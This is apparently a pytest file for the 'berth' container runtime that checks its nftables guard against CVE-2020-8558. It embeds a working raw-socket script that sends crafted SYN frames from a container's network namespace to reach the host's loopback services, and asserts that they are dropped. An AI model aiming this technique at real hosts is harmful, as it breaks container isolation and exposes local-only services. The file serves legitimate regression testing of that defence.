"""A container must not reach the host's loopback-only services (issue 11, hole 6; CVE-2020-8558).

berth sets route_localnet=1 on its bridge so that `-p 127.0.0.1:...` works by kernel NAT;
that also lets the host accept a packet for 127.0.0.1 arriving on the bridge. The attack: a
process in a container's network namespace (CAP_NET_RAW is a default capability) sends a raw
Ethernet frame to the gateway's MAC carrying a TCP SYN for 127.0.0.1:PORT, where the test
listens on the host's loopback. An answer (SYN-ACK or RST) on the raw socket means it got in.
berth's table drops such packets unless berth's DNAT made them; a control SYN to the gateway
address shows the crafted frames do get answered, and published ports keep working: on
127.0.0.1 from the host, on 0.0.0.0 from another container. Traffic: loopback, the test
bridge's gateway and its containers only."""

import os
import socket
import subprocess
import sys

from test_publish import HTTPD, PAGE, container_get, free_ports, gateway, http_get, inspect, wait_http

# Run by the host's python in the container's network namespace (busybox has no python):
# argv = eth0's MAC, the gateway's MAC, the container's IP, destination IP, destination port.
# Sends a TCP SYN as a raw Ethernet frame (resent every 0.3 s) and prints "answered <flags>"
# when the destination answers from that port within 3 s, else "silent".
ATTACKER = r"""
import os, random, socket, struct, sys, time

src_mac, dst_mac, src_ip, dst_ip, dst_port = sys.argv[1:6]
dst_port = int(dst_port)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


sport, seq = random.randint(40000, 60000), random.getrandbits(32)
src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
tcp = struct.pack("!HHIIBBHHH", sport, dst_port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
tcp = tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, 6, 0, src, dst)
ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
frame = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00" + ip + tcp

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
raw.bind(("eth0", 0x0800))
deadline, resend = time.monotonic() + 3.0, 0.0
while time.monotonic() < deadline:
    if time.monotonic() >= resend:
        raw.send(frame)
        resend = time.monotonic() + 0.3
    raw.settimeout(max(0.01, min(resend, deadline) - time.monotonic()))
    try:
        packet = raw.recv(65535)
    except TimeoutError:
        continue
    if len(packet) < 34 or packet[12:14] != b"\x08\x00" or packet[23] != 6:
        continue
    header = (packet[14] & 0x0F) * 4
    sp, dp = struct.unpack("!HH", packet[14 + header:18 + header])
    if packet[26:30] == dst and sp == dst_port and dp == sport:
        print("answered", hex(packet[14 + header + 13]))
        sys.exit(0)
print("silent")
"""


def _attack(b, ref: str, dst_ip: str, dst_port: int) -> str:
    pid = inspect(b, ref, "{{.State.Pid}}")
    mac = inspect(b, ref, "{{.NetworkSettings.MacAddress}}")
    ip = inspect(b, ref, "{{.NetworkSettings.IPAddress}}")
    with open(f"/sys/class/net/{b.bridge}/address") as f:
        gateway_mac = f.read().strip()
    result = subprocess.run(["nsenter", f"--net=/proc/{pid}/ns/net", sys.executable, "-c", ATTACKER, mac,
                             gateway_mac, ip, dst_ip, str(dst_port)], capture_output=True, text=True, timeout=30)
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def _listener(address: str) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((address, 0))
    sock.listen(8)
    return sock


def _accepted(sock: socket.socket) -> bool:
    sock.setblocking(False)
    try:
        sock.accept()[0].close()
        return True
    except BlockingIOError:
        return False


def test_container_cannot_reach_a_host_loopback_service(busybox):
    local_port, any_port = free_ports(2)
    busybox.ok("run", "-d", "--name", "attacker", "-p", f"127.0.0.1:{local_port}:80", "-p", f"{any_port}:81",
               "busybox", "sh", "-c", HTTPD)
    attacker_ip = inspect(busybox, "attacker", "{{.NetworkSettings.IPAddress}}")
    wait_http(attacker_ip, 80)
    wait_http(attacker_ip, 81)
    with open(f"/proc/sys/net/ipv4/conf/{busybox.bridge}/route_localnet") as f:
        assert f.read().strip() == "1"  # what makes the attack possible, and what -p 127.0.0.1 needs

    with _listener("127.0.0.1") as loopback_only, _listener(gateway(busybox)) as on_gateway:
        # control: the same crafted SYN to the gateway's own address is answered
        assert _attack(busybox, "attacker", gateway(busybox), on_gateway.getsockname()[1]).startswith("answered")
        # the attack: nothing on the host's loopback answers a frame from a container
        assert _attack(busybox, "attacker", "127.0.0.1", loopback_only.getsockname()[1]) == "silent"
        assert not _accepted(loopback_only)

    # what route_localnet is for still works: the host reaches the 127.0.0.1-published port,
    # another container reaches the 0.0.0.0-published one through the gateway
    assert http_get("127.0.0.1", local_port) == PAGE
    assert container_get(busybox, gateway(busybox), any_port) == PAGE
    assert http_get(gateway(busybox), local_port, timeout=1.0) is None  # bound to 127.0.0.1 only
    # and the host may still open a connection from a loopback address to a container (the
    # masquerade rule makes it; the answers come back to 127.0.0.1 on the bridge)
    from_loopback = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    from_loopback.bind(("127.0.0.1", 0))
    assert http_get(attacker_ip, 80, sock=from_loopback) == PAGE


def test_the_guard_is_in_berths_table_for_its_bridge_only(busybox):
    from berth.network.nft import table_name

    busybox.ok("run", "--rm", "busybox", "true")  # makes the bridge and its table
    listing = subprocess.run(["nft", "list", "chain", "ip", table_name(busybox.root), "input"],
                             capture_output=True, text=True, check=True).stdout
    rules = [" ".join(line.split()) for line in listing.splitlines() if "127.0.0.0/8" in line]
    assert rules and all(f'iifname "{busybox.bridge}"' in rule for rule in rules), listing
    assert any(rule.endswith("drop") for rule in rules), listing
    assert os.path.exists(f"/sys/class/net/{busybox.bridge}")


def test_a_bridge_made_by_an_older_berth_gets_the_guard_on_first_use(busybox):
    from berth.fs import read_json, write_json
    from berth.network.nft import table_name

    (port,) = free_ports(1)
    busybox.ok("run", "-d", "--name", "web", "-p", f"127.0.0.1:{port}:80", "busybox", "sh", "-c", HTTPD)
    wait_http(inspect(busybox, "web", "{{.NetworkSettings.IPAddress}}"), 80)
    # as an older berth left it: no input chain, no firewall revision in bridge.json
    subprocess.run(["nft", "delete", "chain", "ip", table_name(busybox.root), "input"], check=True)
    record = os.path.join(busybox.root, "network", "bridge.json")
    state = read_json(record)
    state.pop("revision")
    write_json(record, state)
    with _listener("127.0.0.1") as loopback_only, _listener(gateway(busybox)) as on_gateway:
        target = loopback_only.getsockname()[1]
        assert _attack(busybox, "web", "127.0.0.1", target).startswith("answered")  # the hole, as it was
        busybox.ok("run", "--rm", "busybox", "true")  # the first use by this berth
        # the control shows the frames still reach the host
        assert _attack(busybox, "web", gateway(busybox), on_gateway.getsockname()[1]).startswith("answered")
        assert _attack(busybox, "web", "127.0.0.1", target) == "silent"
    assert read_json(record)["revision"] == 2
    # the running container's published port was kept
    wait_http("127.0.0.1", port)


def test_adding_the_guard_in_place_keeps_the_table_as_setup_makes_it():
    """Firewall.add_loopback_guard, in a network namespace of its own (test_nft's lab):
    idempotent, and the result is the table a fresh setup makes, published ports kept."""
    from test_nft import BR, SUBNET, TABLE, A, isolated

    from berth.network.nft import Firewall, nft

    def work(lab):
        fw = Firewall(TABLE, BR, SUBNET)
        fw.setup()
        fw.publish([("tcp", "127.0.0.1", 8080, A, 80)])
        made = nft("list", "table", "ip", TABLE)[1]
        nft("delete", "chain", "ip", TABLE, "input")
        assert "chain input" not in nft("list", "table", "ip", TABLE)[1]
        fw.add_loopback_guard()
        fw.add_loopback_guard()
        assert nft("list", "table", "ip", TABLE)[1] == made

    isolated(work)
